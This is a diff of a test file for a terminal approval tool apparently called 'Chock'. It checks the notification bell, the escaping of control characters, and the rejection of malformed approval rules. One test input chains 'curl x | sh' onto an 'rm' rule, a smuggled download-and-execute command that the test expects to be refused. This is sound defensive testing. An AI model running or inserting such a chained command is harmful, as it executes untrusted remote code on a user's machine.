@@ -107,8 +107,9 @@ def test_attach_offers_a_no_with_a_message_and_always_with_the_proposal_at_a_ter
     try:
         terminal.wait_for("the rule proposed is `rm`")
         # The bell, and a desktop notification naming the task with its control characters removed.
-        told = b"\x07\x1b]9;Chock: a session waits for your approval: two kinds]0;owned of answer\x07"
-        assert told in terminal.screen
+        told = b"\x07\x1b]9;Chock: approval needed: two kinds]0;owned of answer\x07"
+        terminal.wait_for("approval needed: two kinds]0;owned of answer\x07")  # the view rings a tick later
+        assert terminal.screen.count(told) == 1  # once: the view rings, and nothing else does
         terminal.type("s rm; curl x | sh\r")  # a rule that is no rule: refused by the session, asked again
         terminal.wait_for("not answered")
         terminal.type("n not here: the build directory is mine\r")
